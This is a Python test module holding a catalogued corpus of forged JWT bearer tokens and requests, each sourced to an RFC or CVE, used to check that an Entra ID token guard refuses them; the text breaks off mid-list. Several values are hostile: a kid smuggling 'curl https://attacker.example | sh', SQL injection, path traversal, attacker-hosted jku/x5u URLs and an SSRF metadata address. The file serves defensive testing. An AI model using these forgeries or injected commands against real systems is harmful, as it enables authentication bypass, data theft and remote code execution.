"""The attack corpus: hostile tokens and requests, each named, sourced and answered.

Each `Attack` says how the request is forged, where the attack comes from, and the reason
code the guard must refuse it with (docs/design.md, "Behaviour rules"). The status and challenge
follow from the reason (`expected_answer`). Sources:

- RFC 8725 (JWT Best Current Practices), RFC 7515 (JWS), RFC 7516 (JWE), RFC 7519 (JWT),
  RFC 7797 (unencoded payload), RFC 6750 (bearer tokens), RFC 4648 and RFC 8259.
- Published CVEs of JWT libraries: CVE-2015-2951 (JWT.php, `alg: none`), CVE-2015-9235
  (jsonwebtoken, HS256 keyed with the RSA public key), CVE-2016-10555 (jwt-simple, the same),
  CVE-2016-5431 (PHP JOSE, the same), CVE-2017-11424 (PyJWT, PEM public key as HMAC secret),
  CVE-2022-29217 (PyJWT, algorithm confusion through `get_default_algorithms`),
  CVE-2018-0114 (node-jose, key from the `jwk` header), CVE-2020-28042 (ServiceStack, null
  signature), CVE-2022-21449 (Java, "psychic" ECDSA signatures), CVE-2022-39227 (python-jwt,
  mixed compact/JSON forms), CVE-2024-21319 (Microsoft.IdentityModel, JWE decompression),
  CVE-2020-10735 (CPython, quadratic parsing of long integers).
- Entra ID: the access-token reference and the "validate tokens" guidance (issuer per
  tenant, `tid`, v1/v2, Graph tokens), and the 2023 Storm-0558 forgery, after which
  Microsoft.IdentityModel binds signing keys to their issuer.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from dataclasses import dataclass, field

from aad_guard.testing import DEFAULT_CALLER_CLIENT_ID, MSA_TENANT_ID
from tests.helpers import b64
from tests.security.forge import (
    GRAPH_APP_ID,
    OTHER_TENANT_ID,
    Forge,
    Probe,
    attacker_key,
    replace_segment,
    weak_key,
)

Forger = Callable[[Forge], "str | Probe"]


@dataclass(frozen=True, slots=True)
class Attack:
    """One hostile case: how it is built, where it comes from, and the reason it must get.

    Attributes:
        name: The attack, as a pytest id.
        source: Where the attack is described (RFC section, CVE, Entra guidance).
        forge: Builds the token (sent as `Authorization: Bearer <token>`) or a raw request.
        reason: The reason code of the refusal (`aad_guard.errors`).
        options: `TokenValidator` options, when the attack targets a configuration.
        setup: Changes the identity provider before the keys are fetched (a poisoned JWKS).
    """

    name: str
    source: str
    forge: Forger
    reason: str
    options: Mapping[str, object] = field(default_factory=dict)
    setup: Callable[[Forge], None] | None = None


def expected_answer(reason: str) -> tuple[int, str | None]:
    """The status and RFC 6750 `error` docs/design.md prescribes for a refusal `reason`."""
    if reason in ("malformed_authorization", "duplicate_authorization"):
        return 400, "invalid_request"  # rule 3
    if reason == "missing_token":
        return 401, None  # rule 2: a bare challenge
    return 401, "invalid_token"  # rule 23


RFC8725_2_1 = "RFC 8725 §2.1 weak signatures and insufficient signature validation"
RFC8725_3_1 = "RFC 8725 §3.1 perform algorithm verification"
RFC8725_2_6 = "RFC 8725 §2.6 multiplicity of JSON encodings"
RFC8725_3_10 = "RFC 8725 §3.10 do not trust received claims"
RFC8725_3_8 = "RFC 8725 §3.8 validate issuer and subject"
RFC8725_3_9 = "RFC 8725 §3.9 use and validate audience"
RFC8725_2_8 = "RFC 8725 §2.8 cross-JWT confusion"
RFC7519_NUMERIC = "RFC 7519 §2 NumericDate is a JSON number; RFC 8725 §3.4 validate inputs"
ENTRA_ISSUER = "Entra token validation: iss must be the issuer of the token's tid"
ENTRA_TID = "Entra access-token reference: tid is the tenant GUID, in lower case"
ENTRA_CLAIM_TYPES = "Entra access-token reference: each claim has one JSON type; null is none"
STORM_0558 = "Storm-0558 (MSRC, 2023): a key of one issuer must not sign for another"
RFC6750_2_1 = "RFC 6750 §2.1 credentials = Bearer 1*SP b64token"


def claim(name: str, value: object) -> Forger:
    return lambda f: f.token(claims={name: value})


def claim_text(name: str, literal: str) -> Forger:
    return lambda f: f.with_claims_text((name, literal))


def iss(template: str) -> Forger:
    """A token whose `iss` is `template` with `{tid}` filled with the token's tenant."""
    return lambda f: f.token(claims={"iss": template.format(tid=f.issuer.tenant_id)})


def header(**members: object) -> Forger:
    return lambda f: f.token(headers={"kid": f.kid, **members})


def kid(value: object) -> Forger:
    return lambda f: f.token(headers={"kid": value})


def bearer_text(text: Callable[[Forge], str]) -> Forger:
    return lambda f: Probe.authorization(text(f))


def _segments(f: Forge) -> list[str]:
    return f.token().split(".")


def _nested(f: Forge) -> str:
    inner = f.token()
    return f.signed(f'{{"alg":"RS256","typ":"JWT","cty":"JWT","kid":"{f.kid}"}}', f'"{inner}"')


def _small_key(f: Forge) -> None:
    f.issuer.keys.listed.append(weak_key())


def _twin_kid(f: Forge) -> None:
    twin = f.issuer.keys.listed[1]
    f.issuer.keys.listed.append(type(twin)(f.kid, twin.private_key))


def _bind_key(issuer_url: str) -> Callable[[Forge], None]:
    def setup(f: Forge) -> None:
        f.issuer.keys.issuers[f.kid] = issuer_url

    return setup


def _psychic_es256(f: Forge) -> str:
    # r = s = 0: the "psychic signature" that vulnerable ECDSA verifiers accepted.
    return f.unsigned("ES256", b64(bytes(64)))


def _payload_swapped(f: Forge) -> str:
    token = f.token(scopes=("User.Read",))
    elevated = f.token(scopes=("Tasks.Read", "Tasks.Write"))
    return replace_segment(token, 1, elevated.split(".")[1])


def _header_swapped(f: Forge) -> str:
    token = f.token()
    return replace_segment(
        token, 0, b64(b'{"alg":"RS256","typ":"at+jwt","kid":"%s"}' % f.kid.encode())
    )


def _signature_from(f: Forge, other: str) -> str:
    token = f.token()
    return replace_segment(token, 2, other.split(".")[2])


def _deep(depth: int) -> str:
    return "[" * depth + "]" * depth


ALG: list[Attack] = [
    Attack(
        "alg_none_empty_signature",
        f"{RFC8725_2_1}; CVE-2015-2951",
        lambda f: f.unsigned("none"),
        "malformed_token",
    ),
    Attack(
        "alg_none_with_signature",
        f"{RFC8725_2_1}; CVE-2015-2951",
        lambda f: f.unsigned("none", _segments(f)[2]),
        "unsupported_algorithm",
    ),
    Attack(
        "alg_None_capitalised",
        f"{RFC8725_2_1}; CVE-2015-9235 variants",
        lambda f: f.unsigned("None", "AAAA"),
        "unsupported_algorithm",
    ),
    Attack(
        "alg_NONE_upper_case",
        f"{RFC8725_2_1}; CVE-2015-9235 variants",
        lambda f: f.unsigned("NONE", "AAAA"),
        "unsupported_algorithm",
    ),
    Attack(
        "alg_nOnE_mixed_case",
        f"{RFC8725_2_1}; CVE-2015-9235 variants",
        lambda f: f.unsigned("nOnE", "AAAA"),
        "unsupported_algorithm",
    ),
    Attack(
        "alg_none_trailing_space",
        RFC8725_3_1,
        lambda f: f.unsigned("none ", "AAAA"),
        "unsupported_algorithm",
    ),
    Attack(
        "alg_empty_string", RFC8725_3_1, lambda f: f.unsigned("", "AAAA"), "unsupported_algorithm"
    ),
    Attack("alg_null", RFC8725_3_1, lambda f: f.unsigned(None, "AAAA"), "unsupported_algorithm"),
    Attack(
        "alg_missing",
        RFC8725_3_1,
        lambda f: f.signed(f'{{"typ":"JWT","kid":"{f.kid}"}}', "{}"),
        "unsupported_algorithm",
    ),
    Attack("alg_number", RFC8725_3_1, lambda f: f.unsigned(256, "AAAA"), "unsupported_algorithm"),
    Attack(
        "alg_array_of_RS256",
        RFC8725_3_1,
        lambda f: f.unsigned(["RS256"], "AAAA"),
        "unsupported_algorithm",
    ),
    Attack(
        "alg_object",
        RFC8725_3_1,
        lambda f: f.unsigned({"RS256": True}, "AAAA"),
        "unsupported_algorithm",
    ),
    Attack(
        "alg_rs256_lower_case",
        RFC8725_3_1,
        lambda f: f.unsigned("rs256", _segments(f)[2]),
        "unsupported_algorithm",
    ),
    Attack(
        "alg_RS256_trailing_space",
        RFC8725_3_1,
        lambda f: f.unsigned("RS256 ", _segments(f)[2]),
        "unsupported_algorithm",
    ),
    Attack(
        "alg_RS256_with_nul",
        RFC8725_3_1,
        lambda f: f.unsigned("RS256\u0000", _segments(f)[2]),
        "unsupported_algorithm",
    ),
    Attack(
        "hs256_keyed_with_public_key_pem",
        "CVE-2015-9235; CVE-2016-10555; CVE-2017-11424",
        lambda f: f.hmac(f.public_pem()),
        "unsupported_algorithm",
    ),
    Attack(
        "hs384_keyed_with_public_key_pem",
        "CVE-2016-5431",
        lambda f: f.hmac(f.public_pem(), alg="HS384"),
        "unsupported_algorithm",
    ),
    Attack(
        "hs512_keyed_with_public_key_pem",
        "CVE-2016-5431",
        lambda f: f.hmac(f.public_pem(), alg="HS512"),
        "unsupported_algorithm",
    ),
    Attack(
        "hs256_keyed_with_jwk_modulus",
        "CVE-2022-29217 (key material as HMAC secret)",
        lambda f: f.hmac(str(f.public_jwk()["n"]).encode()),
        "unsupported_algorithm",
    ),
    Attack(
        "hs256_keyed_with_jwks_json",
        "CVE-2022-29217 (key material as HMAC secret)",
        lambda f: f.hmac(repr(f.public_jwk()).encode()),
        "unsupported_algorithm",
    ),
    Attack(
        "hs256_empty_secret",
        f"{RFC8725_3_1}; RFC 8725 §3.5",
        lambda f: f.hmac(b""),
        "unsupported_algorithm",
    ),
    Attack(
        "rs384_valid_signature_not_allowed",
        RFC8725_3_1,
        lambda f: f.token(algorithm="RS384"),
        "unsupported_algorithm",
    ),
    Attack(
        "rs512_valid_signature_not_allowed",
        RFC8725_3_1,
        lambda f: f.token(algorithm="RS512"),
        "unsupported_algorithm",
    ),
    Attack(
        "ps256_valid_signature_not_allowed",
        RFC8725_3_1,
        lambda f: f.token(algorithm="PS256"),
        "unsupported_algorithm",
    ),
    Attack("es256_psychic_signature", "CVE-2022-21449", _psychic_es256, "unsupported_algorithm"),
    Attack(
        "eddsa_key_confusion",
        "CVE-2022-29217",
        lambda f: f.unsigned("EdDSA", "AAAA"),
        "unsupported_algorithm",
    ),
    Attack(
        "jwe_alg_rsa_oaep_in_a_jws",
        "RFC 7516 §4.1.1; RFC 8725 §2.8",
        lambda f: f.unsigned("RSA-OAEP", "AAAA"),
        "unsupported_algorithm",
    ),
    Attack(
        "jwe_alg_dir_in_a_jws",
        "RFC 7516 §4.1.1; RFC 8725 §2.8",
        lambda f: f.unsigned("dir", "AAAA"),
        "unsupported_algorithm",
    ),
]

SIGNATURE: list[Attack] = [
    Attack(
        "signature_stripped",
        f"{RFC8725_2_1}; CVE-2020-28042",
        lambda f: replace_segment(f.token(), 2, ""),
        "malformed_token",
    ),
    Attack(
        "signature_and_dot_stripped",
        f"{RFC8725_2_1}; CVE-2020-28042",
        lambda f: ".".join(_segments(f)[:2]),
        "malformed_token",
    ),
    Attack(
        "signature_all_zero",
        "RFC 8725 §3.3 validate all cryptographic operations",
        lambda f: replace_segment(f.token(), 2, b64(bytes(256))),
        "invalid_signature",
    ),
    Attack(
        "signature_all_ones",
        "RFC 8725 §3.3 validate all cryptographic operations",
        lambda f: replace_segment(f.token(), 2, b64(b"\xff" * 256)),
        "invalid_signature",
    ),
    Attack(
        "signature_one_byte",
        "RFC 8725 §3.3 validate all cryptographic operations",
        lambda f: replace_segment(f.token(), 2, "AA"),
        "invalid_signature",
    ),
    Attack(
        "signature_truncated",
        "RFC 8725 §3.3 validate all cryptographic operations",
        lambda f: replace_segment(f.token(), 2, b64(bytes(255))),
        "invalid_signature",
    ),
    Attack(
        "signature_of_another_token",
        "RFC 8725 §2.7 substitution attacks",
        lambda f: _signature_from(f, f.token(claims={"oid": "someone-else"})),
        "invalid_signature",
    ),
    Attack(
        "payload_elevated_after_signing",
        "RFC 7515 §5.2 signature covers the payload",
        _payload_swapped,
        "invalid_signature",
    ),
    Attack(
        "header_changed_after_signing",
        "RFC 7515 §5.2 signature covers the header",
        _header_swapped,
        "invalid_signature",
    ),
    Attack(
        "attacker_key_with_the_real_kid",
        RFC8725_3_10,
        lambda f: f.by_attacker(),
        "invalid_signature",
    ),
    Attack(
        "attacker_key_with_its_own_kid",
        RFC8725_3_10,
        lambda f: f.by_attacker(kid="attacker-key"),
        "unknown_kid",
    ),
    Attack(
        "signed_by_the_next_key_under_the_current_kid",
        "RFC 8725 §3.3 validate all cryptographic operations",
        lambda f: f.token(key=f.issuer.keys.listed[1], headers={"kid": f.kid}),
        "invalid_signature",
    ),
    Attack(
        "signature_as_the_modulus",
        "RFC 8017 §5.2.2 s must be below n",
        lambda f: replace_segment(f.token(), 2, str(f.public_jwk()["n"])),
        "invalid_signature",
    ),
]

KID: list[Attack] = [
    Attack("kid_path_traversal", RFC8725_3_10, kid("../../../../../../dev/null"), "unknown_kid"),
    Attack(
        "kid_path_traversal_encoded",
        RFC8725_3_10,
        kid("..%2f..%2f..%2fetc%2fpasswd"),
        "unknown_kid",
    ),
    Attack("kid_sql_injection", RFC8725_3_10, kid("x' UNION SELECT 'secret' --"), "unknown_kid"),
    Attack(
        "kid_command_injection",
        RFC8725_3_10,
        kid("k; curl https://attacker.example | sh"),
        "unknown_kid",
    ),
    Attack("kid_url", RFC8725_3_10, kid("https://attacker.example/keys.json"), "unknown_kid"),
    Attack("kid_prototype_key", RFC8725_3_10, kid("__proto__"), "unknown_kid"),
    Attack(
        "kid_upper_cased_real_kid",
        RFC8725_3_10,
        lambda f: f.token(headers={"kid": f.kid.upper()}),
        "unknown_kid",
    ),
    Attack(
        "kid_real_kid_with_trailing_space",
        RFC8725_3_10,
        lambda f: f.token(headers={"kid": f.kid + " "}),
        "unknown_kid",
    ),
    Attack(
        "kid_real_kid_with_nul",
        RFC8725_3_10,
        lambda f: f.token(headers={"kid": f.kid + "\u0000"}),
        "unknown_kid",
    ),
    Attack(
        "kid_lone_surrogate",
        RFC8725_2_6,
        lambda f: f.with_header_text(("kid", '"\\ud800"')),
        "unknown_kid",
    ),
    Attack(
        "kid_257_characters",
        "docs/design.md, rule 25: no unbounded work per request",
        kid("k" * 257),
        "malformed_token",
    ),
    Attack(
        "kid_10000_characters",
        "docs/design.md, rule 25: no unbounded work per request",
        kid("k" * 10_000),
        "malformed_token",
    ),
    Attack("kid_empty", RFC8725_3_10, kid(""), "malformed_token"),
    Attack("kid_null", RFC8725_3_10, kid(None), "malformed_token"),
    Attack("kid_number", RFC8725_3_10, kid(0), "malformed_token"),
    Attack("kid_true", RFC8725_3_10, kid(True), "malformed_token"),
    Attack(
        "kid_array", RFC8725_3_10, lambda f: f.token(headers={"kid": [f.kid]}), "malformed_token"
    ),
    Attack(
        "kid_object",
        RFC8725_3_10,
        lambda f: f.token(headers={"kid": {"kid": f.kid}}),
        "malformed_token",
    ),
    Attack(
        "x5t_number",
        RFC8725_3_10,
        lambda f: f.token(headers={"kid": f.kid, "x5t": 1}),
        "malformed_token",
    ),
    Attack(
        "no_kid_and_no_x5t",
        "RFC 7515 §4.1.4; docs/design.md, rule 7",
        lambda f: f.token(headers={}),
        "missing_kid",
    ),
    Attack(
        "x5t_alone_names_another_key",
        "RFC 7515 §4.1.7",
        lambda f: f.token(version="1.0", headers={"x5t": f.issuer.keys.listed[1].kid}),
        "invalid_signature",
    ),
    Attack(
        "kid_and_x5t_disagree_signed_by_x5t_key",
        "docs/design.md, rule 7: kid wins",
        lambda f: f.token(
            key=f.issuer.keys.listed[1], headers={"kid": f.kid, "x5t": f.issuer.keys.listed[1].kid}
        ),
        "invalid_signature",
    ),
    Attack(
        "duplicate_kid_in_the_jwks",
        "docs/design.md, rule 15: a kid two keys share names no key",
        lambda f: f.token(),
        "unknown_kid",
        setup=_twin_kid,
    ),
]

KEYS_FROM_TOKEN: list[Attack] = [
    Attack(
        "jwk_header_attacker_key_real_kid",
        "CVE-2018-0114",
        lambda f: f.by_attacker(jwk=f.attacker.public_jwk()),
        "invalid_signature",
    ),
    Attack(
        "jwk_header_attacker_key_own_kid",
        "CVE-2018-0114",
        lambda f: f.by_attacker(kid="attacker-key", jwk=f.attacker.public_jwk()),
        "unknown_kid",
    ),
    Attack(
        "jwk_header_symmetric_key_hs256",
        "CVE-2018-0114; RFC 8725 §3.1",
        lambda f: f.hmac(b"k", jwk={"kty": "oct", "k": "aw"}),
        "unsupported_algorithm",
    ),
    Attack(
        "jku_attacker_jwks_real_kid",
        RFC8725_3_10,
        lambda f: f.by_attacker(jku="https://attacker.example/jwks.json"),
        "invalid_signature",
    ),
    Attack(
        "jku_attacker_jwks_own_kid",
        RFC8725_3_10,
        lambda f: f.by_attacker(kid="attacker-key", jku="https://attacker.example/jwks.json"),
        "unknown_kid",
    ),
    Attack(
        "jku_look_alike_of_the_authority",
        RFC8725_3_10,
        lambda f: f.by_attacker(
            kid="attacker-key", jku="https://login.microsoftonline.com.attacker.example/keys"
        ),
        "unknown_kid",
    ),
    Attack(
        "jku_on_the_authority_for_another_tenant",
        RFC8725_3_10,
        lambda f: f.by_attacker(
            kid="attacker-key",
            jku=f"https://login.microsoftonline.com/{OTHER_TENANT_ID}/discovery/v2.0/keys",
        ),
        "unknown_kid",
    ),
    Attack(
        "jku_internal_metadata_address",
        f"{RFC8725_3_10} (SSRF)",
        lambda f: f.by_attacker(kid="attacker-key", jku="http://169.254.169.254/metadata/identity"),
        "unknown_kid",
    ),
    Attack(
        "x5u_attacker_certificate_url",
        RFC8725_3_10,
        lambda f: f.by_attacker(kid="attacker-key", x5u="https://attacker.example/cert.pem"),
        "unknown_kid",
    ),
    Attack(
        "x5c_attacker_certificate_real_kid",
        RFC8725_3_10,
        lambda f: f.by_attacker(x5c=[b64(b"attacker certificate")]),
        "invalid_signature",
    ),
    Attack(
        "x5c_attacker_certificate_own_kid",
        RFC8725_3_10,
        lambda f: f.by_attacker(kid="attacker-key", x5c=[b64(b"attacker certificate")]),
        "unknown_kid",
    ),
    Attack(
        "x5t_s256_attacker_thumbprint",
        RFC8725_3_10,
        lambda f: f.by_attacker(**{"x5t#S256": b64(bytes(32))}),
        "invalid_signature",
    ),
]

STRUCTURE: list[Attack] = [
    Attack("crit_exp", "RFC 7515 §4.1.11", header(crit=["exp"]), "unsupported_crit_header"),
    Attack(
        "crit_empty_list",
        "RFC 7515 §4.1.11 (crit must not be empty)",
        header(crit=[]),
        "unsupported_crit_header",
    ),
    Attack("crit_null", "RFC 7515 §4.1.11", header(crit=None), "unsupported_crit_header"),
    Attack(
        "crit_unknown_extension",
        "RFC 7515 §4.1.11; PyJWT advisory on unknown crit extensions",
        header(crit=["x-bypass"], **{"x-bypass": True}),
        "unsupported_crit_header",
    ),
    Attack(
        "b64_false_with_crit",
        "RFC 7797 §3, §6",
        header(b64=False, crit=["b64"]),
        "unsupported_crit_header",
    ),
    Attack(
        "b64_false_without_crit",
        "RFC 7797 §6 (b64 without crit)",
        header(b64=False),
        "malformed_token",
    ),
    Attack("b64_true", "RFC 7797 §3", header(b64=True), "malformed_token"),
    Attack(
        "enc_member_in_a_jws",
        "RFC 7516 §4.1.2; RFC 8725 §2.8",
        header(enc="A256GCM"),
        "malformed_token",
    ),
    Attack(
        "zip_member_decompression",
        "CVE-2024-21319; RFC 8725 §3.6",
        header(zip="DEF"),
        "malformed_token",
    ),
    Attack(
        "jwe_compact_five_segments",
        "RFC 7516 §7.1; RFC 8725 §2.8",
        lambda f: ".".join(
            [b64(b'{"alg":"RSA-OAEP","enc":"A256GCM"}'), "AAAA", "AAAA", "AAAA", "AAAA"]
        ),
        "malformed_token",
    ),
    Attack(
        "jwe_dir_empty_key_segment",
        "RFC 7516 §7.1; RFC 8725 §2.8",
        lambda f: ".".join([b64(b'{"alg":"dir","enc":"A128GCM"}'), "", "AAAA", "AAAA", "AAAA"]),
        "malformed_token",
    ),
    Attack(
        "nested_jwt_cty_jwt",
        "RFC 7519 §5.2, §7.2 step 8; RFC 8725 §2.8",
        _nested,
        "malformed_token",
    ),
    Attack(
        "two_segments", "RFC 7515 §7.1", lambda f: ".".join(_segments(f)[:2]), "malformed_token"
    ),
    Attack("four_segments", "RFC 7515 §7.1", lambda f: f.token() + ".AAAA", "malformed_token"),
    Attack("one_segment", "RFC 7515 §7.1", lambda f: _segments(f)[1], "malformed_token"),
    Attack("empty_segments", "RFC 7515 §7.1", lambda f: "..", "malformed_token"),
    Attack(
        "jws_json_serialization_in_bearer",
        "CVE-2022-39227; RFC 7515 §7.2",
        bearer_text(lambda f: f'Bearer {{"payload":"{_segments(f)[1]}","signatures":[]}}'),
        "malformed_authorization",
    ),
    Attack(
        "compact_and_json_polyglot",
        "CVE-2022-39227",
        bearer_text(lambda f: f'Bearer {f.token()} {{"payload":"x"}}'),
        "malformed_authorization",
    ),
    Attack(
        "header_json_array",
        "RFC 7515 §4 (the header is a JSON object)",
        lambda f: f.signed("[]", "{}"),
        "malformed_token",
    ),
    Attack(
        "header_json_string", "RFC 7515 §4", lambda f: f.signed('"RS256"', "{}"), "malformed_token"
    ),
    Attack("header_json_null", "RFC 7515 §4", lambda f: f.signed("null", "{}"), "malformed_token"),
    Attack(
        "payload_json_array",
        "RFC 7519 §7.2 step 10",
        lambda f: f.signed(f.head_text(), "[1]"),
        "malformed_token",
    ),
    Attack(
        "payload_json_number",
        "RFC 7519 §7.2 step 10",
        lambda f: f.signed(f.head_text(), "42"),
        "malformed_token",
    ),
    Attack(
        "payload_empty",
        "RFC 7519 §7.2 step 10",
        lambda f: f.signed(f.head_text(), ""),
        "malformed_token",
    ),
]

ENCODING: list[Attack] = [
    Attack(
        "duplicate_alg_none_last",
        f"{RFC8725_2_6}; RFC 7515 §5.2",
        lambda f: f.with_header_text(("alg", '"RS256"'), ("alg", '"none"')),
        "malformed_token",
    ),
    Attack(
        "duplicate_kid",
        f"{RFC8725_2_6}; RFC 7515 §5.2",
        lambda f: f.with_header_text(("kid", f'"{f.kid}"'), ("kid", '"attacker-key"')),
        "malformed_token",
    ),
    Attack(
        "duplicate_aud",
        f"{RFC8725_2_6}; RFC 8259 §4",
        lambda f: f.with_claims_text(("aud", f'"{f.issuer.client_id}"'), ("aud", '"api://other"')),
        "malformed_token",
    ),
    Attack(
        "duplicate_tid",
        f"{RFC8725_2_6}; RFC 8259 §4",
        lambda f: f.with_claims_text(
            ("tid", f'"{f.issuer.tenant_id}"'), ("tid", f'"{OTHER_TENANT_ID}"')
        ),
        "malformed_token",
    ),
    Attack(
        "duplicate_exp",
        f"{RFC8725_2_6}; RFC 8259 §4",
        lambda f: f.with_claims_text(("exp", "1"), ("exp", "99999999999")),
        "malformed_token",
    ),
    Attack(
        "duplicate_scp",
        f"{RFC8725_2_6}; RFC 8259 §4",
        lambda f: f.with_claims_text(("scp", '"User.Read"'), ("scp", '"Tasks.Read"')),
        "malformed_token",
    ),
    Attack(
        "duplicate_member_nested",
        RFC8725_2_6,
        lambda f: f.with_claims_text(("ext", '{"a":1,"a":2}')),
        "malformed_token",
    ),
    Attack(
        "case_variant_AUD_only",
        "RFC 7519 §4 (claim names are case-sensitive)",
        lambda f: f.token(remove=["aud"], claims={"AUD": f.issuer.client_id}),
        "missing_claim",
    ),
    Attack(
        "case_variant_Exp_only",
        "RFC 7519 §4 (claim names are case-sensitive)",
        lambda f: f.token(remove=["exp"], claims={"Exp": 9_999_999_999}),
        "missing_claim",
    ),
    Attack(
        "case_variant_TID_only",
        "RFC 7519 §4 (claim names are case-sensitive)",
        lambda f: f.token(remove=["tid"], claims={"TID": f.issuer.tenant_id}),
        "missing_claim",
    ),
    Attack(
        "case_variant_Alg_only",
        "RFC 7515 §4 (header names are case-sensitive)",
        lambda f: f.signed(f'{{"Alg":"RS256","kid":"{f.kid}"}}', "{}"),
        "unsupported_algorithm",
    ),
    Attack(
        "utf8_bom_before_header",
        "RFC 8259 §8.1; RFC 8725 §3.7 use UTF-8",
        lambda f: f.signed(b"\xef\xbb\xbf" + (f.head_text()).encode(), "{}"),
        "malformed_token",
    ),
    Attack(
        "invalid_utf8_in_payload",
        "RFC 8725 §3.7 use UTF-8",
        lambda f: f.signed(f.head_text(), b'{"sub":"\xff"}'),
        "malformed_token",
    ),
    Attack(
        "overlong_utf8_in_payload",
        "RFC 3629 §3; RFC 8725 §3.7",
        lambda f: f.signed(f.head_text(), b'{"sub":"\xc0\xaf"}'),
        "malformed_token",
    ),
    Attack(
        "utf16_json_header",
        "RFC 8725 §3.7 use UTF-8",
        lambda f: f.signed((f.head_text()).encode("utf-16"), "{}"),
        "malformed_token",
    ),
    Attack(
        "trailing_data_after_payload_object",
        RFC8725_2_6,
        lambda f: f.signed(f.head_text(), '{"aud":"x"}{"aud":"y"}'),
        "malformed_token",
    ),
    Attack(
        "json_with_comment",
        RFC8725_2_6,
        lambda f: f.signed(f'{{"alg":"RS256",/*x*/"kid":"{f.kid}"}}', "{}"),
        "malformed_token",
    ),
    Attack(
        "json_single_quotes",
        RFC8725_2_6,
        lambda f: f.signed(f"{{'alg':'RS256','kid':'{f.kid}'}}", "{}"),
        "malformed_token",
    ),
    Attack(
        "base64_padding_on_header",
        "RFC 7515 §2 (no padding)",
        bearer_text(lambda f: "Bearer " + replace_segment(f.token(), 0, _segments(f)[0] + "==")),
        "malformed_authorization",
    ),
    Attack(
        "base64_padding_on_signature",
        "RFC 7515 §2 (no padding)",
        lambda f: f.token() + "=",
        "malformed_token",
    ),
    Attack(
        "base64_standard_alphabet",
        "RFC 7515 §2 (base64url only)",
        lambda f: replace_segment(
            f.token(), 2, _segments(f)[2].replace("-", "+").replace("_", "/") + "+/"
        ),
        "malformed_token",
    ),
    Attack(
        "base64_non_canonical_trailing_bits",
        "RFC 4648 §3.5 canonical encoding",
        lambda f: replace_segment(f.token(), 2, "AB"),
        "malformed_token",
    ),
    Attack(
        "base64_impossible_length",
        "RFC 4648 §4",
        lambda f: replace_segment(f.token(), 2, "AAAAA"),
        "malformed_token",
    ),
    Attack(
        "base64_space_inside_token",
        RFC6750_2_1,
        bearer_text(lambda f: "Bearer " + f.token().replace(".", ". ", 1)),
        "malformed_authorization",
    ),
    Attack(
        "base64_tab_inside_token",
        RFC6750_2_1,
        bearer_text(lambda f: "Bearer " + f.token().replace(".", ".\t", 1)),
        "malformed_authorization",
    ),
    Attack(
        "base64_newline_inside_token",
        RFC6750_2_1,
        bearer_text(lambda f: "Bearer " + f.token().replace(".", ".\n", 1)),
        "malformed_authorization",
    ),
    Attack(
        "percent_encoded_token",
        RFC6750_2_1,
        bearer_text(lambda f: "Bearer " + f.token().replace(".", "%2E")),
        "malformed_authorization",
    ),
    Attack(
        "nan_exp", f"{RFC7519_NUMERIC}; RFC 8259 §6", claim_text("exp", "NaN"), "malformed_token"
    ),
    Attack(
        "infinity_exp",
        f"{RFC7519_NUMERIC}; RFC 8259 §6",
        claim_text("exp", "Infinity"),
        "malformed_token",
    ),
    Attack(
        "negative_infinity_nbf",
        f"{RFC7519_NUMERIC}; RFC 8259 §6",
        claim_text("nbf", "-Infinity"),
        "malformed_token",
    ),
    Attack(
        "exp_overflowing_to_infinity", RFC7519_NUMERIC, claim_text("exp", "1e309"), "invalid_claim"
    ),
    Attack(
        "nbf_overflowing_to_minus_infinity",
        RFC7519_NUMERIC,
        claim_text("nbf", "-1e309"),
        "invalid_claim",
    ),
    Attack(
        "exp_with_5000_digits",
        "CVE-2020-10735 (quadratic int parsing)",
        claim_text("exp", "9" * 5000),
        "malformed_token",
    ),
]

SIZE: list[Attack] = [
    Attack(
        "token_one_past_32_kib",
        "docs/design.md, rule 4",
        lambda f: f.token(claims={"pad": "x" * 32768}),
        "token_too_large",
    ),
    Attack(
        "token_of_one_mebibyte",
        "docs/design.md, rule 4; RFC 8725 §2.9",
        lambda f: "A" * (1 << 20),
        "token_too_large",
    ),
    Attack(
        "header_of_40_kib", "docs/design.md, rule 4", header(pad="x" * 40_000), "token_too_large"
    ),
    Attack("many_dots", "docs/design.md, rule 25", lambda f: "." * 40_000, "token_too_large"),
    Attack(
        "payload_nested_5000_deep",
        "docs/design.md, rule 25 (recursion)",
        lambda f: f.signed(f.head_text(), f'{{"x":{_deep(5000)}}}'),
        "malformed_token",
    ),
    Attack(
        "header_nested_5000_deep",
        "docs/design.md, rule 25 (recursion)",
        lambda f: f.signed(f'{{"alg":"RS256","x":{_deep(5000)}}}', "{}"),
        "malformed_token",
    ),
    Attack(
        "fifty_authorization_headers",
        "docs/design.md, rule 3",
        lambda f: Probe.authorization(*["Bearer " + f.token()] * 50),
        "duplicate_authorization",
    ),
]

TIME: list[Attack] = [
    Attack("exp_as_string", RFC7519_NUMERIC, claim("exp", "9999999999"), "invalid_claim"),
    Attack("exp_true", RFC7519_NUMERIC, claim("exp", True), "invalid_claim"),
    Attack("exp_null", RFC7519_NUMERIC, claim("exp", None), "invalid_claim"),
    Attack("exp_array", RFC7519_NUMERIC, claim("exp", [9_999_999_999]), "invalid_claim"),
    Attack("exp_object", RFC7519_NUMERIC, claim("exp", {"$date": 9_999_999_999}), "invalid_claim"),
    Attack(
        "exp_missing",
        "RFC 8725 §3.10; docs/design.md, rule 16",
        lambda f: f.token(remove=["exp"]),
        "missing_claim",
    ),
    Attack(
        "exp_zero",
        "RFC 7519 §4.1.4",
        lambda f: f.token(claims={"exp": 0}, remove=["nbf"]),
        "token_expired",
    ),
    Attack(
        "exp_negative",
        "RFC 7519 §4.1.4",
        lambda f: f.token(claims={"exp": -1}, remove=["nbf"]),
        "token_expired",
    ),
    Attack(
        "exp_hugely_negative",
        "RFC 7519 §4.1.4",
        lambda f: f.token(claims={"exp": -(2**63)}, remove=["nbf"]),
        "token_expired",
    ),
    Attack("exp_integer_beyond_any_float", RFC7519_NUMERIC, claim("exp", 10**400), "invalid_claim"),
    Attack(
        "exp_just_past_the_skew",
        "RFC 7519 §4.1.4; docs/design.md, rule 16",
        lambda f: f.token(issued_at=f.issuer.clock() - 4000, lifetime=3699),
        "token_expired",
    ),
    Attack("nbf_as_string", RFC7519_NUMERIC, claim("nbf", "0"), "invalid_claim"),
    Attack(
        "nbf_in_the_future",
        "RFC 7519 §4.1.5",
        lambda f: f.token(claims={"nbf": f.issuer.clock() + 3600}),
        "token_not_yet_valid",
    ),
    Attack(
        "nbf_after_exp",
        "docs/design.md, rule 16",
